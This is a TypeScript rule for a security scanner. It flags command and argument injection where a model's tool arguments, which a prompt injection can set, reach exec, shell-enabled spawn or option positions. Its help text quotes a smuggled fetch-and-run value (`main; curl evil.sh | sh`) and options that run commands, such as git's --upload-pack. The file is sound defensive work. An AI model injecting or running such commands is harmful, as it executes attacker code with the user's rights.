// command-injection: an untrusted value (tool argument, exported parameter,
// HTTP request) becomes a shell command line, the program to run, or an
// option of a program run without a shell.
import type { TSESTree } from "@typescript-eslint/types";
import { propertyName, unwrapExpression, walk } from "../analyzer/parse/ast.js";
import { AFTER_FIRST_WORD, AFTER_OPTIONS_END, NOT_AT_START, OPTION_VALUE, flagsBefore, staysOneShellWord } from "../analyzer/taint/shell-shapes.js";
import { type Flow, NO_LEADING_DASH, type GuardKind, type SinkHit } from "../analyzer/taint/spec.js";
import type { Rule, RuleContext } from "./types.js";
import type { ParsedModule } from "../analyzer/types.js";
import { fetchedTextRuns } from "./download-and-execute.js";
import { URL_OPENER_KIND } from "./models/process.js";
import { NETWORK_REQUEST_KIND } from "./models/network.js";
import { URL_PATH } from "../analyzer/taint/url-shapes.js";
import { harmlessOptionSlot, hasInertOptions, inertOptionSlot, optionInjectionReach, readsNextAsValue, runsOperandsAsCode } from "./models/commands.js";
import { argumentVectorRisk, isFixedFirstElement } from "./util/argument-vector.js";
import { programAtHelperCall } from "./util/program-at-call.js";
import { declaredCapability, type DeclaredCapability } from "./util/declared-purpose.js";
import { templateText } from "./util/command-strings.js";
import { attributedFlow, isUnsafe, reportFlow, shapeOf, unreadCheckOf, type UntrustedFlow, untrustedFlows } from "./util/untrusted-flows.js";

/** For an element in option position a pattern counts by its shape (can it start with `-`?), not by being a pattern. */
const OPTION_GUARDS: readonly GuardKind[] = ["literal-equality", "allow-list", "type-check", "sanitizer-call"];

const cannotStartWithDash = (marks: readonly string[]) => marks.includes(NO_LEADING_DASH);

/** What makes a value safe for a command line: pinning it to known values or a strict pattern. */
const GUARDS: readonly GuardKind[] = ["literal-equality", "allow-list", "regex-match", "type-check", "sanitizer-call"];

/** APIs whose first argument is a whole shell line (execaCommand: a line split into program and arguments). */
const SHELL_STRING_API = /(^|\.)(exec|execSync|execaCommand|execaCommandSync|command|commandSync)$|^shelljs\./;

/** The label of data read from a network response (rules/models/network-responses.ts). */
const RESPONSE_KIND = "network-response";

const SHELL_FIX = "Run the program with execFile/spawn and an argument array (no shell), put `--` before user-supplied operands, or allow-list the value.";
const OPTION_FIX = "Put `--` before user-supplied operands, or reject values that start with `-` (an allow-list or a strict pattern).";

/** `spawn(cmd, { shell: true })` or `spawn(cmd, args, { shell: "/bin/bash" })`: the command is a shell line. */
function hasShellOption(hit: SinkHit): boolean {
  if (hit.node.type !== "CallExpression") return false;
  return hit.node.arguments.some((a) => {
    const o = unwrapExpression(a);
    if (o.type !== "ObjectExpression") return false;
    return o.properties.some((p) => {
      if (p.type !== "Property" || propertyName(p) !== "shell") return false;
      const v = unwrapExpression(p.value);
      return !(v.type === "Literal" && (v.value === false || v.value === null));
    });
  });
}

export const commandInjection: Rule = {
  meta: {
    id: "command-injection",
    title: "Command injection",
    defaultSeverity: "critical",
    threat: "prompt-injection",
    cwe: [78, 88],
    summary: "A tool argument becomes part of a shell command line or the program to run.",
    description:
      "A value the model chooses (a tool argument, which a prompt injection can set) reaches `exec`, `execSync`, a `spawn` with `shell: true`, `sh -c`, shelljs or the program position of `execFile`/`spawn` without an allow-list. Whoever writes the value runs commands as the user. Argument arrays without a shell are safer, but an argument that can start with `-` is still read as an option (`--upload-pack=...`): that is reported at medium, and at high for a program one of whose options carries a command (`git --upload-pack=…`, `rg --pre=…`, `tar --to-command=…`, rules/models/commands.ts). In a shell line, a value that cannot leave its word (only letters, digits and `_.,:/@%+=-` by an anchored pattern, a character-class replace or a format; or single quotes escaped as `'\\''` and written inside single quotes; or written inside double quotes with no `$`, backtick, `\"` or line break left by a character-stripping replace, and no `\\` unless none of `;&|<>` is left either) is judged the same way, as an argument; `JSON.stringify` and double quotes alone are not shell quoting (`$( )` and backticks run), and a word given to `sh -c`, `ssh host …` or `xargs` is still a command. An argument is not an option after `--`, glued to a constant (`./${f}`, `https://…?u=${u}`, `--grep=${p}`), an object or array serialized (`JSON.stringify({ … })` starts with `{` or `[`; a value of unknown type does not: `-1`), or as the value of an option that takes one (`rg -e PATTERN`, `kubectl -n NS`, in a shell line `tmux split-window -c '<dir>'`); an argument-vector element that is a command line for a device or remote shell (`adb shell \"am start -n '<pkg>'\"`) starts with the code's word, and is judged by its quoted word inside. A word of `echo`, whose options only change what it prints, is no argument injection; nor is an argument after `python -c CODE` (Python reads no more options) or after `sh -c SCRIPT` (it is `$0`, `$1`, not the script). Right after a subcommand whose options only change how it runs (`xcrun simctl spawn <device>`), argument injection is low; so it is after an interpreter's script file (`python3 tool.py ARG`, `node cli.js ARG`, `bash run.sh ARG`): the script reads the value, and the interpreter's code-running options are out of reach. Right after a subcommand whose options only say again what the code asks (`docker login <registry>`: which account, where the password comes from), it is no finding. A value refused when it starts with `-` (also after `trim()`) is no option. When the tool says this is what it is for (its name, description and schema declare the act and the argument is the whole command line, or starts a command of it after the code's own commands, settings and launchers: `cd \"<dir>\" && env K=V ${command}`), the finding is a capability: medium or low, listed under \"What it can do\", and the permission policy asks before each call; so is such a command handed whole as the script of a shell in an argument vector (`spawn(\"bash\", [\"-c\", command])`); it stays an injection when the value crosses a boundary the code or the tool's text meant to keep (a script the code writes around it, a promise of allowed commands; words that only concede a case, \"even for safe commands\", promise nothing). A value a server sent (an authorization server's metadata, a redirect's Location) placed in a shell line (also the script of `sh -c` or `powershell -Command` in an argument array), or handed whole to the `open` package as what the system opener starts (it launches apps and `file:` URLs, and on Windows goes through a command line), is reported at medium: whoever answers that request writes part of the command (fetched text run as the whole command is `download-and-execute`); at low when the request goes over https to the package's own service (a constant host, or one only the code's own callers pass, chosen by no setting, argument or other answer). An argument vector built in steps (`args.push(\"--start\", since)`, in a helper or not) keeps what each element was written after: an element right after a constant option is that option's value when the command table says the program takes one, or, for a program the table does not know, when the code writes them as a pair (options that carry code, `-c`, `-e`, excepted); after a launcher's first operand (`npx pkg …`, `node script.js …`, `sudo cmd …`) the arguments belong to the program it names; a vector held in a local array (declared with a literal, then only `push`ed to) is read element by element like the literal itself; and `args[0]` of a local array whose first element only constant `unshift`s change is the code's program.",
    help: [
      "**Why it matters.** A shell parses `;`, `&&`, `$(...)` and backticks: `branch = \"main; curl evil.sh | sh\"` runs the attacker's command with the user's rights. A prompt injection in any web page, issue or file the model reads can choose tool arguments.",
      "",
      "**How to fix.** Use `execFile`/`spawn` with an argument array and no shell; put `--` before user-supplied operands so they cannot be read as options; pin values with a zod enum or an allow-list.",
      "",
      "```ts",
      "exec(`git checkout ${branch}`);                    // shell: injectable",
      'execFile("git", ["checkout", "--", branch]);       // no shell, not an option',
      "```",
    ].join("\n"),
    precision: "high",
  },
  check(ctx) {
    const reportedHits = new Set<SinkHit>();
    for (const hit of ctx.taint.hitsOf("command-injection")) {
      const unsafe = hit.flows.filter((f) => isUnsafe(ctx, f, "command-injection", GUARDS, hit));
      if (unsafe.length === 0) continue;
      reportedHits.add(hit);
      // The program position: a first argument, or an options object's `command` / `executablePath` (`new StdioClientTransport({ command })`, `launch({ executablePath })`).
      const programPosition = hit.argument === "Argument[0]" || /^Argument\[[01]\]\.Member\[(?:command|executablePath)\]$/.test(hit.argument);
      // `execa(args[0], args.slice(1))` after `args.unshift("xcrun", …)`: the first element is the code's constant.
      const first = hit.node.type === "CallExpression" ? hit.node.arguments[0] : undefined;
      if (hit.argument === "Argument[0]" && first && isFixedFirstElement(first, hit.module)) continue;
      const shellLine = !programPosition || SHELL_STRING_API.test(hit.callee) || hasShellOption(hit);
      const line = shellLine ? shellLineProgram(hit) : undefined;
      // A value that stays one word of the line, after its program, is an argument, not shell syntax.
      const breaking = unsafe.filter((f) => !line || line.runsWords || !isOneArgumentWord(shapeOf(ctx, f, hit)));
      if (breaking.length === 0) {
        const option = unsafe.find((f) => !cannotBeAnOption(shapeOf(ctx, f, hit), line?.program));
        if (option) reportOption(ctx, { hit, flow: option }, line?.program, line?.subcommand, "in a shell command line, as one word");
        continue;
      }
      const u = { hit, flow: breaking[0] };
      const what = shellLine ? "as part of a shell command line" : "as the program it runs";
      // A check the scanner cannot read is not proof of a hole (docs/value-shapes.md): said, at low.
      const unread = unreadCheckOf(ctx, u, "command-injection", GUARDS);
      if (unread) {
        reportFlow(ctx, u, `${what}, past a check the scanner does not read (${unread}); verify that it keeps commands out`, SHELL_FIX, "low");
        continue;
      }
      const framed = lineCapability(ctx, hit, breaking);
      if (framed && "capability" in framed) reportFlow(ctx, framed.u, what, framed.capability.advice, undefined, "", framed.capability);
      else reportFlow(ctx, framed?.injection ?? u, what, SHELL_FIX);
    }
    const scriptHits = new Set<SinkHit>();
    for (const u of untrustedFlows(ctx, "command-argument", OPTION_GUARDS)) {
      const risk = argumentVectorRisk(u.hit, ctx.taint, u.flow);
      if (risk.kind === "safe") continue;
      if (risk.kind === "shell") {
        const flow = u.hit.flows.find((f) => isUnsafe(ctx, f, "command-argument", GUARDS, u.hit));
        if (!flow) continue;
        scriptHits.add(u.hit);
        const what = `as the script of \`${risk.shell} -c\`, a shell command line`;
        // A tool that says it runs the command it is given, whose command is the script itself: its stated job.
        const capability = declaredCapability(ctx, { hit: u.hit, flow }, undefined, { sinkKind: "command-injection", startsTheSink: risk.scriptStartsWithValue === true });
        if (capability) reportFlow(ctx, { hit: u.hit, flow }, what, capability.advice, undefined, "shell", capability);
        else reportFlow(ctx, { hit: u.hit, flow }, what, SHELL_FIX, "critical", "shell");
        continue;
      }
      // In option position only a leading `-` matters: a value whose shape cannot start with one is an operand.
      // Each flow is judged where its own argument sits (`["blame", r, "--", file]`: r before `--`, file after it).
      const inOptionPosition = (f: Flow) => f === u.flow || argumentVectorRisk(u.hit, ctx.taint, f).kind === "option";
      // A shared run helper (`run(cmd, args)`) starts what each call hands it: the program of the call this flow came through.
      // Read once per flow: the reading walks the module for the helper's call (the chosen flow is asked again for its report).
      const programs = new Map<Flow, string | undefined>();
      const programOf = (f: Flow) => {
        if (!programs.has(f)) {
          const named = programAtHelperCall(u.hit, f, ctx.taint, ctx.program);
          programs.set(f, named?.length === 1 ? named[0] : risk.program);
        }
        return programs.get(f);
      };
      const flow = u.hit.flows.find((f) => isUnsafe(ctx, f, "command-argument", OPTION_GUARDS, u.hit, (m) => cannotStartWithDash(m) || isOptionValue(m, risk.program) || isInertWordOfInnerLine(m)) && inOptionPosition(f) && !hasInertOptions(programOf(f)));
      if (!flow) continue;
      const at = flow === u.flow ? risk : argumentVectorRisk(u.hit, ctx.taint, flow);
      if (at.kind === "option" && at.toScript) {
        // The interpreter reads no option past its script file: what an option-like value can do is up to the script, unknown here.
        reportFlow(ctx, { hit: u.hit, flow }, `in its argument array, after the script file ${at.program ? `\`${at.program}\` ` : ""}that \`${at.toScript}\` runs: a value starting with \`-\` reaches the script's own options, not the interpreter's; what it can do depends on the options that script reads, which the scanner does not know (argument injection)`, OPTION_FIX, "low", "option");
        continue;
      }
      reportOption(ctx, { hit: u.hit, flow }, programOf(flow), risk.subcommand, "in its argument array", at.kind === "option" ? at.before : undefined);
    }
    reportResponseValuesInShellLines(ctx, reportedHits, scriptHits);
  },
};

/**
 * The line is a tool's declared capability when one of the values that break
 * into it is the command the tool says it runs (`cd "<dir>" && ${command}`),
 * and every other such value comes from the same tools: a folder or variable
 * that can also break out of its quotes gives the model nothing the command
 * does not. A value of another tool sharing the line stays an injection, and
 * is the one reported.
 */
function lineCapability(ctx: RuleContext, hit: SinkHit, breaking: readonly Flow[]): { u: UntrustedFlow; capability: DeclaredCapability } | { injection: UntrustedFlow } | undefined {
  const at = (h: SinkHit) => `${h.location.file}:${h.location.line}:${h.location.column}`;
  // A helper called by several tools is a hit per calling context at one place: each one's values count.
  const others = ctx.taint.hitsOf(hit.kind).filter((h) => h !== hit && at(h) === at(hit));
  for (const flow of breaking) {
    const capability = declaredCapability(ctx, { hit, flow });
    if (!capability) continue;
    const foreign = (f: Flow, h: SinkHit) => !attributedFlow(ctx, f, h).label.name.split(" | ").every((t) => capability.tools.includes(t));
    const own = breaking.find((f) => foreign(f, hit));
    if (own) return { injection: { hit, flow: own } };
    for (const h of others) {
      const flowOfOther = h.flows.find((f) => isUnsafe(ctx, f, "command-injection", GUARDS, h) && foreign(f, h));
      if (flowOfOther) return { injection: { hit: h, flow: flowOfOther } };
    }
    return { u: { hit, flow }, capability };
  }
  return undefined;
}

/** Argument injection: high for a program with an option that carries its own command (`git --upload-pack=…`), medium otherwise. */
function reportOption(ctx: RuleContext, u: UntrustedFlow, program: string | undefined, subcommand: string | undefined, where: string, before?: readonly string[]): void {
  if (hasInertOptions(program) || inertOptionSlot(program, before)) return;
  if (harmlessOptionSlot(program, before)) {
    const words = [program, ...(before ?? [])].join(" ");
    reportFlow(ctx, u, `${where}, right after \`${words}\`, whose options only change how it runs, not what it reads, writes or runs (argument injection of little reach)`, OPTION_FIX, "low", "option");
    return;
  }
  const runs = optionInjectionReach(program, subcommand);
  if (runs) reportFlow(ctx, u, `${where}, where a value such as \`${runs.runsCode}…\` is read as an option of ${program} that runs a command (argument injection)`, OPTION_FIX, "high", "option");
  else reportFlow(ctx, u, `${where}, where a value starting with \`-\` is read as an option (argument injection)`, OPTION_FIX, "medium", "option");
}

/**
 * Written right after a constant option that takes the next argument as its
 * value (`args.push("--start", since)`, `["-t", n]` built in a helper): the
 * program reads it as that value whatever it starts with.
 */
function isOptionValue(marks: readonly string[], program: string | undefined): boolean {
  const flags = flagsBefore(marks);
  return flags.length > 0 && flags.every((f) => readsNextAsValue(program, f));
}

/** One word of a shell line that is not its first (the program): inert characters, or escaped and single-quoted (shell-shapes.ts). */
function isOneArgumentWord(marks: readonly string[]): boolean {
  return staysOneShellWord(marks) && marks.includes(AFTER_FIRST_WORD);
}

/**
 * A word that cannot be read as an option: it cannot start with `-`, follows a
 * standalone `--`, or is the value of the option written before it (`--x=`,
 * `tmux split-window -c '${dir}'` when the program takes one).
 */
function cannotBeAnOption(marks: readonly string[], program: string | undefined): boolean {
  return marks.includes(NO_LEADING_DASH) || marks.includes(AFTER_OPTIONS_END) || marks.includes(OPTION_VALUE) || isOptionValue(marks, program);
}

/**
 * One element of an argument vector that is itself a command line for another
 * shell (`["shell", `monkey -p '${pkg}'`]`): it starts with the code's
 * constant, so the launcher cannot read it as an option; inside the line the
 * piece stays one word and is no option there either. The program of that
 * inner line is not known here: an option before the piece counts as taking it
 * as a value when the code wrote them as a pair (readsNextAsValue).
 */
function isInertWordOfInnerLine(marks: readonly string[]): boolean {
  return marks.includes(NOT_AT_START) && staysOneShellWord(marks) && cannotBeAnOption(marks, undefined);
}

/**
 * The program and subcommand a shell line runs, from its constant text
 * (`git log ${x}` → git, log), and whether that program runs its operands as
 * code (`sh -c '…'`, `ssh host '…'`, `xargs …`): then a quoted word is still a
 * command. The program is undefined when the line starts with a value.
 */
function shellLineProgram(hit: SinkHit): { program?: string; subcommand?: string; runsWords: boolean } {
  const call = hit.node;
  const first = call.type === "CallExpression" || call.type === "NewExpression" ? call.arguments[0] : undefined;
  const written = first && first.type !== "SpreadElement" ? templateText(first, hit.module) : undefined;
  // A line built elsewhere (`run(line)` in a helper): the constants the engine knows it starts with.
  const texts = written !== undefined && !written.startsWith("$X") ? [written] : (hit.destination?.constants ?? []);
  const words = (texts[0] ?? "").trim().split(/\s+/);
  const program = texts.length === 1 && words[0] && !words[0].includes("$X") ? words[0] : undefined;
  const subcommand = program ? words.slice(1).find((w) => !w.startsWith("-") && !w.includes("$X")) : undefined;
  // A line that pipes or chains runs more than one program: any of them may read its words as code.
  const programs = texts.flatMap((t) => t.split(/\|\||&&|[|;&\n]/).map((c) => c.trim().split(/\s+/)[0]));
  return { program, subcommand, runsWords: programs.some((p) => runsOperandsAsCode(p)) };
}

/**
 * A value a server sent (a URL from an auth server's metadata, a redirect's
 * Location, a device-login page) put into a shell line: whoever answers the
 * request, or sits between, writes part of a command. Fetched text run as the
 * command itself is download-and-execute's; this is the operand case.
 */
function reportResponseValuesInShellLines(ctx: RuleContext, skip: ReadonlySet<SinkHit>, skipScripts: ReadonlySet<SinkHit>): void {
  const responseFlow = (hit: SinkHit, kind = "command-injection") => hit.flows.find((f) => f.label.kind === RESPONSE_KIND && !f.sanitizedFor.includes(kind) && !f.sanitizedFor.includes("*") && !f.guards.some((g) => GUARDS.includes(g)));
  for (const hit of ctx.taint.hitsOf("command-injection")) {
    if (skip.has(hit)) continue;
    const programPosition = hit.argument === "Argument[0]" && !SHELL_STRING_API.test(hit.callee) && !hasShellOption(hit);
    if (programPosition || fetchedTextRuns(hit)) continue;
    const flow = responseFlow(hit);
    if (!flow) continue;
    reportResponseValue(ctx, hit, flow, "as part of a shell command line: whoever answers that request writes part of the command", RESPONSE_IN_SHELL_FIX);
  }
  // The script of a shell in an argument array (`spawn("powershell", ["-Command", `Start-Process '${url}'`])`) is a shell line too.
  for (const hit of ctx.taint.hitsOf("command-argument")) {
    if (skipScripts.has(hit)) continue;
    const flow = responseFlow(hit, "command-argument");
    if (!flow) continue;
    const risk = argumentVectorRisk(hit, ctx.taint, flow);
    if (risk.kind !== "shell") continue;
    reportResponseValue(ctx, hit, flow, `as the script of \`${risk.shell} -c\`, a shell command line: whoever answers that request writes part of the command`, RESPONSE_IN_SHELL_FIX);
  }
  // The system opener starts what a target names: a server's answer picks the app or file (on Windows, part of a command line).
  // A piece after a fixed URL's authority (a query value, a path) cannot change what is opened.
  for (const hit of ctx.taint.hitsOf(URL_OPENER_KIND)) {
    const flow = responseFlow(hit);
    if (!flow || shapeOf(ctx, flow, hit).includes(URL_PATH)) continue;
    reportResponseValue(ctx, hit, flow, "as the target the system opener starts: whoever answers that request picks what is opened (an app, a file: URL; on Windows through a command line)", RESPONSE_OPENED_FIX);
  }
}

// The shell case has no URL to check and nothing "opened": its fix is the argument array or an allow-list.
const RESPONSE_IN_SHELL_FIX = "Pass the value as one element of an argument array (execFile/spawn without a shell) instead of writing it into the command line, or allow-list the values it may take.";
const RESPONSE_OPENED_FIX = "Check that the URL's scheme is http(s) (and its host the one expected) before opening it, open it without a shell (execFile/spawn with an argument array), or allow-list the value.";

function reportResponseValue(ctx: RuleContext, hit: SinkHit, flow: Flow, what: string, fix: string): void {
  // The package's own service over https (a host the code fixes) answered, not whoever the model or a setting names.
  const ownService = answeredByFixedHost(ctx, flow);
  ctx.report({
    message: `A value from a network response (${flow.label.name}${ownService ? ", from an https service at a host the code fixes" : ""}) reaches ${hit.callee} ${what}`,
    severity: ownService ? "low" : "medium",
    location: hit.location,
    path: flow.path.length > 0 ? flow.path : undefined,
    fix,
    fingerprintKey: `response|${hit.callee}|${hit.argument}`,
  });
}

/**
 * The request a response label was read from (`const res = await fetch(url)`;
 * `res.json()`): the call the label's receiver was assigned from, in the same
 * function, or the label's own call when it is the request (`fetch(url)` as
 * the Response).
 */
function requestOf(ctx: RuleContext, flow: Flow): { call: TSESTree.CallExpression; module: ParsedModule; fn: TSESTree.Node } | undefined {
  const module = ctx.program.byPath.get(flow.label.location.file);
  if (!module) return undefined;
  const { line, column } = flow.label.location;
  let at: TSESTree.Node | undefined;
  let fn: TSESTree.Node | undefined;
  walk(module.ast, {
    enter(x) {
      if (x.loc.end.line < line || x.loc.start.line > line) return false;
      if (x.type === "FunctionDeclaration" || x.type === "FunctionExpression" || x.type === "ArrowFunctionExpression") fn = x;
      if (!at && (x.type === "CallExpression" || x.type === "MemberExpression") && x.loc.start.line === line && x.loc.start.column + 1 === column) at = x;
    },
  });
  if (!at || !fn) return undefined;
  const callee = at.type === "CallExpression" ? unwrapExpression(at.callee) : at;
  const receiver = callee.type === "MemberExpression" ? unwrapExpression(callee.object) : undefined;
  if (!receiver) return at.type === "CallExpression" ? { call: at, module, fn } : undefined;
  if (receiver.type === "CallExpression") return { call: receiver, module, fn };
  if (receiver.type !== "Identifier") return undefined;
  let request: TSESTree.CallExpression | undefined;
  let declarations = 0;
  walk(fn, {
    enter(x) {
      if (x.type !== "VariableDeclarator" || x.id.type !== "Identifier" || x.id.name !== receiver.name) return;
      declarations++;
      const init = x.init ? unwrapExpression(x.init) : undefined;
      const call = init?.type === "AwaitExpression" ? unwrapExpression(init.argument) : init;
      if (call?.type === "CallExpression") request = call;
    },
  });
  return declarations === 1 && request ? { call: request, module, fn } : undefined;
}

/**
 * The response's request goes over https to an address no labelled value and
 * no setting chooses (destination facts of every hit of the request call): the
 * host is a constant, or what the code's own callers pass.
 */
function answeredByFixedHost(ctx: RuleContext, flow: Flow): boolean {
  const request = requestOf(ctx, flow);
  if (!request) return false;
  const calls = [...ctx.taint.hits, ...(ctx.taint.quietHits ?? [])].filter((h) => h.node === request.call && h.kind === NETWORK_REQUEST_KIND && h.destination);
  if (calls.length === 0) {
    // No labelled value reaches the request at all: the code alone writes its address; the scheme is what its constants say.
    const url = request.call.arguments[0];
    if (!url || url.type === "SpreadElement") return false;
    const texts = ctx.taint.constantsOf(url, request.module);
    // `https://${host}/oauth/device`, written in place or in a local constant of the same function.
    const written = templateText(localInit(url, request.fn) ?? url, request.module);
    return texts.length > 0 ? texts.every((c) => c.startsWith("https://")) : written?.startsWith("https://") === true;
  }
  return calls.every((h) => {
    const d = h.destination!;
    // A constant host, or one only the code's own callers pass: no labelled value (a tool argument, a request, another
    // response) and no setting (a user-configured server, which may be plain http or anyone's) picks the address.
    const chosenByCode = d.configuredBy.length === 0 && (d.hostFixed || (d.tainted.length === 0 && !d.unresolved));
    return chosenByCode && d.constants.length > 0 && d.constants.every((c) => c.startsWith("https://"));
  });
}

/** The initializer of a `const` the function declares once under the identifier's name. */
function localInit(node: TSESTree.Node, fn: TSESTree.Node): TSESTree.Node | undefined {
  const id = unwrapExpression(node);
  if (id.type !== "Identifier") return undefined;
  const inits: (TSESTree.Node | null)[] = [];
  walk(fn, {
    enter(x) {
      if (x.type === "VariableDeclaration" && x.kind === "const") for (const d of x.declarations) if (d.id.type === "Identifier" && d.id.name === id.name) inits.push(d.init);
    },
  });
  return inits.length === 1 ? (inits[0] ?? undefined) : undefined;
}
